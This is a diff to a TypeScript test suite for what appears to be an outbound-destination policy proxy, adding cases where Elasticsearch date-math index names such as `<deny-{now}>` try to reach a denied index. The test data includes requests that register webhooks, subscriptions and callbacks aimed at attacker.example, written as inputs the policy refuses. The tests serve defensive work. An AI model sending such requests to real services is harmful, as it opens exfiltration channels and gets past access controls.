@@ -321,7 +321,8 @@ const dav = await startUpstream(t, {
     const es = /^(?:\/([^/]+))?\/(_bulk|_msearch|_mget|_mtermvectors|_reindex|_aliases|_msearch\/template|_search|_count)\/*$/.exec(src);
     if (es) {
       const own = es[1] ?? '(none)';
-      const list = (v: string | string[] | undefined): string[] => [v ?? own].flat().flatMap((i) => i.split(','));
+      // Date math in an index name (`<deny-{now}>`) resolves by today's date.
+      const list = (v: string | string[] | undefined): string[] => [v ?? own].flat().flatMap((i) => i.split(',')).map((i) => i.replace(/^<([^{]*)\{[^}]*\}>$/, '$12026.12.06'));
       // It reads YAML bodies as it reads JSON (XContentType by Content-Type).
       const text = /yaml/i.test(String(req.headers['content-type'])) ? JSON.stringify(parseYaml(body.toString())) : body.toString();
       const endpoint = es[2]!;
@@ -351,7 +352,7 @@ const dav = await startUpstream(t, {
             header = false;
           } else {
             const verb = Object.keys(o)[0]!;
-            esRan.push(`${verb} ${o[verb]?._index ?? own}`);
+            esRan.push(`${verb} ${list(o[verb]?._index ?? own)[0]}`);
             header = verb === 'delete';
           }
         }
@@ -1118,6 +1119,7 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { source: "ctx._source.a = 1" } })],
     ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: `http://allowed.example:${dav.port}/ok/ci`, content_type: 'json' } })],
     ['POST', '/ok/v1/links', json, JSON.stringify({ url: 'https://attacker.example/shortened' })],
+    ['GET', '/%3Cok-%7Bnow%7D%3E/_search', '', ''],
   ] as const) {
     t.match(await send(method, path, type, body, false), /^HTTP\/1\.1 (?:20\d|404 Not Found)/, `control: ${method} ${path} ${body.slice(0, 80)} goes through (forwarded)`);
   }
@@ -1144,6 +1146,11 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     ['POST', '/ok/v1.0/subscriptions', json, JSON.stringify({ changeType: 'created', notificationUrl: 'https://attacker.example/notify', resource: 'me/messages', includeResourceData: true, expirationDateTime: '2030-01-01T00:00:00Z' })],
     ['POST', '/ok/repos/a/b/hooks', json, JSON.stringify({ name: 'web', config: { url: 'https://attacker.example/hook', content_type: 'json' } })],
     ['POST', '/ok/v1/webhook_endpoints', 'application/x-www-form-urlencoded', 'enabled_events[]=*&url=https%3A%2F%2Fattacker.example%2Fstripe'],
+    // Elasticsearch date math in an index name: `<deny-{now}>` is today's deny-2026.12.06.
+    ['GET', '/%3Cdeny-%7Bnow%7D%3E/_search', '', ''],
+    ['GET', '/ok,%3Cdeny-%7Bnow%7D%3E/_count', '', ''],
+    ['POST', '/ok/_bulk', 'application/x-ndjson', '{"index":{"_index":"<deny-{now}>"}}\n{"a":1}\n'],
+    ['GET', '/%3C%7Bnow%7D%3E/_search', '', ''],
     ['POST', '/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', json, JSON.stringify({ webhooks: [{ name: 'x.example', clientConfig: { url: 'https://attacker.example/admit' }, rules: [{ operations: ['CREATE'], resources: ['secrets'] }] }] })],
     ['POST', '/ok/2010-04-01/Accounts/AC1/Messages.json', 'application/x-www-form-urlencoded', 'To=%2B15550100&Body=hi&StatusCallback=https%3A%2F%2Fattacker.example%2Fsms'],
     ['POST', '/_reindex', json, JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { id: 'route' } })],
@@ -1168,7 +1175,7 @@ t.test('property: a configuration that has the server send elsewhere later (buck
     t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `${method} ${path} ${(extra ?? body).slice(0, 110)}: refused (${res?.status})`);
   }
   t.same(sentTo.slice(before[0]), [], 'no destination the policy denies was configured');
-  t.notOk(esRan.slice(before[1]).some((r) => r.endsWith(' deny')), 'no stored script sent a document into a denied index');
+  t.notOk(esRan.slice(before[1]).some((r) => / deny/.test(r)), 'no stored script sent a document into a denied index, no date math reached one');
   t.same(swiftRan.slice(before[2]), [], 'the Swift server read nothing the policy denies');
   t.notOk(batchRan.slice(ran).some((c) => c.includes('/deny')), 'no batch call behind path parameters ran under /deny');
 });
